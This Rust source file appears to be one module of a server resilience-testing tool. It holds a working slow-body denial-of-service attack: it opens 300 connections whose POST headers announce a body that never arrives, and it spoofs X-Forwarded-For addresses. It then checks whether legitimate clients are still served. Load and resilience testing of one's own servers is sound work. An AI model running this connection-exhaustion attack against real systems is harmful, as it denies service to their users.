//! Connections that announce a body and send none: more than there are places in the queue.

use crate::good::GoodClients;
use crate::target::Target;
use crate::{Options, Outcome, Verdict, raw};

pub const SETTINGS: &[&str] = &[];

pub async fn attack(target: &Target, options: &Options) -> Outcome<Verdict> {
    let good = GoodClients::start(target, 4).await?;
    let mut held = Vec::new();
    for number in 0..300 {
        let length = match number % 3 {
            0 => "Transfer-Encoding: chunked",
            1 => "Content-Length: 33554432",
            _ => "Content-Length: 100",
        };
        let head = format!(
            "POST /sessions HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 198.51.100.{}\r\n{length}\r\n\r\n",
            number % 10
        );
        held.push(raw::send(target.address, head).await?);
    }
    tokio::time::sleep(options.duration()).await;
    good.verdict(true, format!("{} silent bodies", held.len()))
        .await
}
